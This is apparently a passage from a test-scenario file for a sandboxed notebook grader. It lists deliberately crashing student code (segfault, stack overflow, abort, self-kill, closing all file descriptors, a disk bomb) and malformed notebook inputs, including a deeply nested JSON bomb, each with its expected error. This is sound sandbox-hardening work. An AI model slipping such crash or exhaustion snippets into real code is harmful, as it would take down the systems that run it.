        r"File too large",  # Python ignores SIGXFSZ: the write fails with EFBIG
        id="big-file",
    ),
    topl(
        "disk-bomb-toplevel",
        (_indent0(DISK_BOMB) + "\nprint('wrote %d MB' % (written >> 20))",),
        needs=("mounts",),
        check=_disk_bounded_in_kernel,
    ),
    zero(ZEROS, "    import ctypes\n    ctypes.string_at(0)\n", r"segmentation fault", id="segfault"),
    Scenario(
        "null-byte-source",
        ZEROS,
        r"null bytes",
        replace={ZEROS: WRONG_ZEROS.replace("parameters = {}", "parameters = {}  # \x00")},
        modes=("fast", "full"),
    ),
    topl("segfault-toplevel", ("import ctypes\nctypes.string_at(0)",), execution=("died",)),
    zero(
        ZEROS,
        "    return initialize_parameters_zeros(layers_dims)\n",
        r"RecursionError: infinite recursion\?",
        id="deep-recursion",
    ),
    zero(
        ZEROS,
        """    import sys
    sys.setrecursionlimit(10 ** 8)  # no limit left: C recursion overflows the stack
    nested = []
    for _ in range(2_000_000):
        nested = [nested]
    return repr(nested)
""",
        r"segmentation fault",
        id="deep-recursion-unlimited",
    ),
    zero(ZEROS, "    import os\n    os.abort()\n", r"aborted", id="abort"),
    zero(
        ZEROS,
        "    import os, signal\n    os.kill(os.getpid(), signal.SIGKILL)\n",
        r"killed",
        id="sigkill-self",
    ),
    zero(
        ZEROS,
        """    import os
    os.closerange(0, 4096)  # the result pipe too: nothing can come back
"""
        + ONES,
        r"exited \(code \d+\)",
        id="close-all-fds",
    ),
]

# ----------------------------------------------------------------------------- malformed files

_VALID = {
    "nbformat": 4,
    "nbformat_minor": 5,
    "metadata": {},
    "cells": [
        {
            "cell_type": "code",
            "metadata": {},
            "source": CORRECT[ZEROS],
            "outputs": [],
            "execution_count": None,
        }
    ],
}


def _nb(**changes: Any) -> bytes:
    return json.dumps({**_VALID, **changes}).encode()


def invalid(id: str, data: bytes, reason: str, **kw: Any) -> Scenario:
    return Scenario(id, None, reason, invalid=data, **kw)


MALFORMED = [
    invalid("truncated", _nb()[:120], r"not valid JSON.*truncated"),
    invalid("empty", b"", r"empty"),
    invalid("whitespace-only", b" \n\t\n", r"empty"),
    invalid("html", b"<!DOCTYPE html><html><body>Not Found</body></html>", r"HTML"),
    invalid("utf-16", _nb().decode().encode("utf-16"), r"UTF-16"),
    invalid("binary", bytes(range(256)) * 4, r"not UTF-8|not valid JSON"),
    invalid("nbformat-99", _nb(nbformat=99), r"nbformat 99 is not supported"),
    invalid("metadata-list", _nb(metadata=["a", "b"]), r"metadata is not an object"),
    invalid(
        "cell-metadata-list",
        _nb(cells=[{**_VALID["cells"][0], "metadata": [1, 2]}]),
        r"cell 1: metadata is not an object",
    ),
    invalid("source-int", _nb(cells=[{**_VALID["cells"][0], "source": 42}]), r"source is int"),
    invalid("json-list", b"[1, 2, 3]", r"not a notebook"),
    invalid("cells-not-list", _nb(cells={"a": 1}), r"no list of cells"),
    invalid("no-nbformat", json.dumps({"cells": []}).encode(), r"no 'nbformat' field"),
    invalid(
        "deep-json",
        b"[" * 100000 + b"]" * 100000,
        r"not valid JSON|not a notebook|too deeply",
    ),
]

SCENARIOS: list[Scenario] = (
    RETURNS + CHANNELS + PATCHES + EXITS + SECRETS + DETERMINISM + HANGS + BOMBS + MALFORMED
)
